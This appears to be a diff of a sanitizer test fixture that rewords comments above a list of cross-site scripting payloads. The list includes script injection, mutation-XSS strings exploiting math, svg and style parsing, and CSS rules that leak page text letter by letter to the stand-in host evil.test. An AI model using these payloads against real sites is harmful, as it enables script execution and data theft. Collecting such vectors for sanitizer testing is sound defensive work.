@@ -1,4 +1,4 @@
-/** Each tries to run, load, send or cover something. */
+/** Attacks. Each tries to run, load, send or cover something. */
 export const htmlVectors = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
@@ -90,7 +90,8 @@ export const htmlVectors = [
   '"><script>alert(1)</script>',
   '</body></html><script>alert(1)</script>',
   '<p title="</p><script>alert(1)</script>">x</p>',
-  // Read twice, these become something else: foreign content, raw text, comments and tables end where one does not expect it.
+  // Parsed twice, these become something else: foreign content, raw text, comments and tables end at
+  // unexpected places.
   '<math><mtext></p><p><style><!--</style><img src=x onerror=alert(1)>--></style></mtext></math>',
   '<svg></p><style><g title="</style><img src=x onerror=alert(1)>"></style></svg>',
   '<svg><desc><noembed><style></noembed><img src=x onerror=alert(1)></style></desc></svg>',
@@ -107,7 +108,7 @@ export const htmlVectors = [
   '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
   '<div title="&lt;/div&gt;&lt;img src=x onerror=alert(1)&gt;">x</div>',
   `${'<div>'.repeat(300)}<svg><style><img src="</style><img src=x onerror=alert(1)>">${'</div>'.repeat(300)}`,
-  // Style sheets that tell what stands on the page, letter by letter.
+  // Style sheets that send the text of the page, letter by letter.
   '<style>p[title^="a"]{background:url(https://evil.test/a)}p[title^="b"]{background:url(https://evil.test/b)}</style><p title=abc>x</p>',
   '<style>@font-face{font-family:f;src:url(https://evil.test/A);unicode-range:U+0041}p{font-family:f}</style><p>A</p>',
   '<style>p{--x:url(https://evil.test/v);background:var(--x)}</style><p>x</p>',
